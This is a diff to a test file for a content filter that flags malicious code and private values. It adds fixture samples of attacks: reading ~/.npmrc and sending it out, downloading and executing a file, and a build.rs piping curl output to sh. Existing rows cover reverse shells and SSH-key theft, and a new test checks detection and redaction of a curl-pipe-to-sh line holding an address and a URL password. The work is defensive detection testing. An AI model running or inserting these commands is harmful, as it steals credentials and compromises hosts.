@@ -22,6 +22,9 @@ FOUND = [
     ("read-environment-and-send", "a.py", "requests.po~st(u, data=dict(os.env~iron))"),
     ("environment-to-drop", "a.js", 'fetch("https://web~hook.site/x", {method: "POST", body: os.host~name()})'),
     ("read-credentials-and-send", "a.go", 'k, _ := os.ReadFile(h + "/.ssh/id_r~sa")\nhttp.Po~st(u, t, bytes.NewReader(k))\n'),
+    ("read-credentials-and-send", "a.js", "const rc = fs.readFileSync(path.join(os.homedir(), '.npm~rc'));\nrequire('https').get(u + encodeURIComp~onent(rc));\n"),
+    ("download-and-run", "a.js", "require('https').g~et(u, (r) => {\n  const f = fs.createWriteStream('/tmp/.agent');\n  r.pipe(f).on('finish', () => require('child_process').ex~ec('/tmp/.agent'));\n});\n"),
+    ("download-to-shell", "build.rs", 'Command::new("sh").arg("-c").arg("cu~rl -s http://203.0.113.7/x | s~h").spawn();\n'),
     ("reverse-shell", "a.py", 's = socket.soc~ket()\nos.du~p2(s.fileno(), 0)\nsubprocess.ca~ll(["/bin/sh"])\n'),
     ("shell-to-network", "a.sh", "bash -i >& /dev/t~cp/203.0.113.7/4444 0>&1\n"),
     ("command-in-host", "a.sh", "nslookup $(who~ami).x.example\n"),
@@ -95,6 +98,17 @@ def test_a_finding_has_its_line_and_the_rejected_row_tells_it(tmp_path):
     filtered = filter_input(content_filter, row)
     assert [(f.type, f.line) for f in filtered.findings] == [("malicious_code", 3)]
     assert filtered.rejection.detail == "by rule nested-decode at line 3"
+
+
+def test_what_a_text_does_and_the_values_in_it_are_found_beside_each_other():
+    content_filter = ContentFilter("default")
+    content_filter.open()
+    address, word = "81.28." + "10.20", "Tr7!kq" + "Zw4x"
+    text = f"curl -s http://{address}/x | sh -s -- --password={word} http://anna:{word}@{address}/\n"
+    outcome = content_filter.filter_input(text, "Shell", "a.sh")
+    kinds = {finding.type for finding in outcome.findings}
+    assert {"malicious_code", "ip_address", "url_password"} <= kinds
+    assert address not in outcome.text and word not in outcome.text and outcome.dropped is None
 
 
 def test_long_words_beside_a_source_are_read_once(scanner):
